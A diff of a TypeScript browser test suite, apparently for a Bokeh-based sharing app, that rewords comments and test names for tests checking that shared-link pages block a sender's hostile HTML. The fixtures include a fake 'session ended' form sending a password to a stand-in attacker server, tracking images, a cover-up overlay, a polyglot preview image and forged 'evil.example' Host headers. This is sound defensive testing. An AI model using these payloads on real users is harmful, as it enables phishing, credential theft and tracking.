@@ -1,4 +1,4 @@
-// What somebody who is sent a link is safe from: the sender has a raw socket and writes whatever HTML they like.
+// The protection of a visitor who opens a link from a sender who has a raw socket and can write any HTML.
 
 import { createServer, request, type Server } from "node:http"
 import { join } from "node:path"
@@ -25,11 +25,11 @@ interface BokehPage {
 
 let attacker: Server
 let attackerUrl: string
-/** From where the app's own documents load something. */
+/** The server from which the app's own documents load resources. */
 let friend: Server
 let friendUrl: string
 let askedOfFriend: string[] = []
-/** What reached the sender's own server. */
+/** The requests that reached the sender's own server. */
 let reached: string[] = []
 let worker: RunningWorker
 let browser: Browser
@@ -61,7 +61,7 @@ beforeEach(() => {
   askedOfFriend = []
 })
 
-/** All that HTML can do by itself or at a click. */
+/** Everything that HTML can do by itself or at a click. */
 function attackHtml(): string {
   return `<p>Your session has ended.</p>
     <form action="${attackerUrl}/form" method="get"><input name="password" value="secret">
@@ -123,7 +123,7 @@ async function linkOf(kind: Link, path: string): Promise<string> {
   }
 }
 
-/** The visitor does all that the page invites them to. */
+/** The visitor clicks everything that the page offers. */
 async function fallForEverything(page: Page): Promise<void> {
   const ids = [
     "sign-in",
@@ -149,7 +149,7 @@ async function fallForEverything(page: Page): Promise<void> {
   await page.waitForTimeout(300)
 }
 
-/** Pictures and styles by which a page tells others that it was opened, and what is on it. */
+/** Pictures and styles that would report to others that a page was opened, and its content. */
 function pictures(): string {
   const at = (name: string) => `${attackerUrl}/${name}`
   return `<img src="${at("img")}"><img srcset="${at("srcset")} 1x"><picture><source srcset="${at("source")}"><img src="data:,"></picture>
@@ -159,27 +159,30 @@ function pictures(): string {
 }
 
 describe("a revoked guest's page", () => {
-  it.each(["viewer", "editor"])("of %s: says so in plain words, and stays out", async (role) => {
-    const { client } = await senderAt("/board", "hello, guest")
-    const link = await linkBy(client, "invite", role)
-    const { page, errors } = await openPage(browser, link)
-    await page.getByText("hello, guest").waitFor()
-    await linkBy(client, "revoke", null)
-    await expect.poll(() => page.innerText("body")).toContain("invitation was revoked")
-    await page.screenshot({ path: `dist/screenshots/revoked-${role}.png` })
-    await page.waitForTimeout(3000)
-    const change = { kind: "TitleChanged", title: "after it was revoked" }
-    await client.request("PATCH-DOC", { events: [change] })
-    expect(await page.title()).not.toBe("after it was revoked")
-    await page.reload()
-    await expect.poll(() => page.innerText("body")).toMatch(/revoked/)
-    expect(await page.innerText("body")).not.toContain("hello, guest")
-    expect(errors).toEqual([])
-    await page.close()
-  })
+  it.each(["viewer", "editor"])(
+    "shows a %s that the invitation was revoked, and stays disconnected",
+    async (role) => {
+      const { client } = await senderAt("/board", "hello, guest")
+      const link = await linkBy(client, "invite", role)
+      const { page, errors } = await openPage(browser, link)
+      await page.getByText("hello, guest").waitFor()
+      await linkBy(client, "revoke", null)
+      await expect.poll(() => page.innerText("body")).toContain("invitation was revoked")
+      await page.screenshot({ path: `dist/screenshots/revoked-${role}.png` })
+      await page.waitForTimeout(3000)
+      const change = { kind: "TitleChanged", title: "after it was revoked" }
+      await client.request("PATCH-DOC", { events: [change] })
+      expect(await page.title()).not.toBe("after it was revoked")
+      await page.reload()
+      await expect.poll(() => page.innerText("body")).toMatch(/revoked/)
+      expect(await page.innerText("body")).not.toContain("hello, guest")
+      expect(errors).toEqual([])
+      await page.close()
+    },
+  )
 
   it.each([".noUi-handle", ".bk-Canvas"])(
-    "is whole where they were dragging %s",
+    "is intact if the guest was dragging %s",
     async (dragged) => {
       const { client } = await senderAt("/everything", "hello, guest")
       const link = await linkBy(client, "invite", "editor")
@@ -208,20 +211,23 @@ describe("a revoked guest's page", () => {
   )
 })
 
-describe("pictures by which a sender would learn of a visitor", () => {
-  it.each(["copy", "viewer's invitation"] as const)("on a page of %s", async (kind) => {
-    const { client } = await senderAt("/board", pictures())
-    const link = await linkBy(client, kind === "copy" ? "publish" : "invite", "viewer")
-    const { page } = await openPage(browser, link)
-    await page.getByText("styled").waitFor()
-    await page.waitForTimeout(1000)
-    expect(reached).toEqual([])
-    await page.close()
-  })
+describe("a sender's tracking pictures", () => {
+  it.each(["copy", "viewer's invitation"] as const)(
+    "are not loaded by the page of a %s",
+    async (kind) => {
+      const { client } = await senderAt("/board", pictures())
+      const link = await linkBy(client, kind === "copy" ? "publish" : "invite", "viewer")
+      const { page } = await openPage(browser, link)
+      await page.getByText("styled").waitFor()
+      await page.waitForTimeout(1000)
+      expect(reached).toEqual([])
+      await page.close()
+    },
+  )
 })
 
-describe("what the page says of who made it", () => {
-  it("can't be covered by what they made", async () => {
+describe("the note that somebody else made the page", () => {
+  it("can't be covered by the maker's content", async () => {
     const html = `<div popover id="over" style="inset: 0; width: 100%; height: 100%">over</div>
       <button popovertarget="over" id="raise">raise</button><b style="${OVER}">all is well</b>`
     const { client } = await senderAt("/loading", html)
@@ -252,9 +258,9 @@ describe("what the page says of who made it", () => {
 const OVER =
   "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:white"
 
-describe("a sender learns of no visitor by what models load", () => {
+describe("the resources that a sender's models load", () => {
   it.each(["copy", "viewer's invitation", "session id"] as const)(
-    "on a page of %s",
+    "are not requested by the page of a %s",
     async (kind) => {
       const { client, token } = await senderAt("/loading", "kept")
       await client.request("PATCH-DOC", {
@@ -273,9 +279,9 @@ describe("a sender learns of no visitor by what models load", () => {
     },
   )
 
-  it("though all of it is loaded on the app's own page", async () => {
+  it("are all requested by the app's own page", async () => {
     const { page } = await openPage(browser, `${worker.url}/loading`)
-    // Its tiles are none: it is never done with them.
+    // Its tiles don't exist, so it never finishes loading them.
     const loaded = () => new Set(askedOfFriend.map((url) => url.split("/")[1]))
     await expect
       .poll(loaded)
@@ -284,7 +290,7 @@ describe("a sender learns of no visitor by what models load", () => {
   })
 })
 
-/** The ids of the models with a name. */
+/** The ids of the named models. */
 async function namedModels(client: BokehClient): Promise<Readonly<Record<string, string>>> {
   const { content } = await client.request("PULL-DOC-REQ")
   const found = JSON.stringify(content).matchAll(/"id":"(\w+)","attributes":\{"name":"(\w+)"/g)
@@ -325,7 +331,7 @@ describe("a page that a link leads to", () => {
     "editor's invitation",
     "session id",
   ]
-  it.each(kinds)("[A5] (%s) shows the sender's text, and nothing of it acts", async (kind) => {
+  it.each(kinds)("[A5] (%s) shows the sender's text, which runs no code", async (kind) => {
     const link = await linkOf(kind, "/board")
     const { page } = await openPage(browser, link)
     await documentsAreDrawn(page)
@@ -342,7 +348,7 @@ describe("a page that a link leads to", () => {
   })
 
   it.each(["copy", "editor's invitation"] as const)(
-    "[A5] (%s) runs the code that the app's own document has, and says who made it",
+    "[A5] (%s) runs the code of the app's own document, and shows who made the page",
     async (kind) => {
       const { page } = await openPage(browser, await linkOf(kind, "/coded"))
       await documentsAreDrawn(page)
@@ -358,10 +364,10 @@ describe("a page that a link leads to", () => {
     },
   )
 
-  it("[A5] lets no code run where the app's own document has none", async () => {
+  it("[A5] allows no code if the app's own document has none", async () => {
     const { page } = await openPage(browser, await linkOf("copy", "/board"))
     await documentsAreDrawn(page)
-    // Not in the evaluation itself, which the policy does not hold for.
+    // Not in the evaluation itself, to which the policy does not apply.
     const made = await page.evaluate(
       () =>
         new Promise<string>((resolve) => {
@@ -386,14 +392,14 @@ describe("a copy's picture", () => {
   const dataUrl = (type: string, content: string) =>
     `data:image/${type};base64,${Buffer.from(content, "latin1").toString("base64")}`
 
-  it("can't be a document", async () => {
+  it("can't be a document of another type", async () => {
     const { client } = await senderAt("/board", "")
     const svg = `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${form()}</foreignObject></svg>`
     const answer = await linkBy(client, "publish with", dataUrl("svg+xml", svg))
     expect(answer).toContain("the preview must be a png, webp or jpeg")
   })
 
-  it("can't act as one under a picture's name", async () => {
+  it("can't act as a document with a picture's type", async () => {
     const { client } = await senderAt("/board", "")
     const picture = dataUrl("png", `\x89PNG\r\n\x1A\n\0\0\0\r<html><body>${form()}`.padEnd(600))
     const link = await linkBy(client, "publish with", picture)
@@ -406,7 +412,7 @@ describe("a copy's picture", () => {
 })
 
 describe("BokehJS in a page that a link leads to", () => {
-  it("[A5] shows all that it shows elsewhere, without code of the document's", async () => {
+  it("[A5] shows the same as elsewhere without running the document's code", async () => {
     const own = await openPage(browser, `${worker.url}/everything`)
     await documentsAreDrawn(own.page)
     const { client } = await senderAt("/everything", "<b>bold</b> <a href='/board'>here</a>")
@@ -445,7 +451,7 @@ async function shownText(page: Page): Promise<string> {
   return text.replace("Somebody else made this.", "").trim()
 }
 
-/** For the page: the text of all elements, also in shadow roots. */
+/** Runs in the page: the text of all elements, including shadow roots. */
 const SHOWN_TEXT = `(() => {
   const textOf = (node) =>
     [...node.childNodes]
@@ -459,7 +465,7 @@ const SHOWN_TEXT = `(() => {
 })()`
 
 describe("the attack", () => {
-  it("is real: on a page that is not guarded, it acts", async () => {
+  it("is real, since it succeeds on an unprotected page", async () => {
     const html = `<a href="${attackerUrl}/link" id="link">x</a><iframe src="${attackerUrl}/frame"></iframe>`
     const { page } = await openPage(
       browser,
@@ -490,7 +496,7 @@ describe("a raw request", () => {
       sent.end()
     })
 
-  it("[H1] by a name that was made to lead here gets no page and no socket", async () => {
+  it("[H1] with a foreign host name that resolves to this server gets no page and no socket", async () => {
     const evil = { Host: "evil.example", Origin: "http://evil.example" }
     expect(await statusFor(evil)).toBe(421)
     const token = await openToken(`${worker.url}/board`)
@@ -506,7 +512,7 @@ describe("a raw request", () => {
     expect(await statusFor({ Host: own, Origin: worker.url, ...upgrade }, "/board/ws")).toBe(101)
   })
 
-  it("that keeps sockets which we have closed is heard no more, and gets no others", async () => {
+  it("that keeps closed sockets open is ignored, and gets no further sockets", async () => {
     const token = await openToken(`${worker.url}/board`)
     const open = () => openRaw(`${worker.url}/board/ws`, token)
     const deaf: RawSocket[] = []
@@ -531,7 +537,7 @@ describe("a raw request", () => {
     for (const socket of [...deaf, next]) socket?.destroy()
   })
 
-  it("for a static file is answered by the platform, with a type that is not guessed at", async () => {
+  it("for a static file is answered by the platform, with content type sniffing disabled", async () => {
     const { status, headers } = await fetch(`${worker.url}/static/js/bokeh.min.js`)
     expect([status, headers.get("X-Content-Type-Options"), headers.get("Cache-Control")]).toEqual([
       200,
@@ -539,7 +545,7 @@ describe("a raw request", () => {
       "public, max-age=86400",
     ])
     const missing = await fetch(`${worker.url}/static/no.js`)
-    // There is nothing in it to guess at.
+    // The response is empty, so there is no type to sniff.
     expect([missing.status, await missing.text()]).toEqual([404, ""])
   })
 })
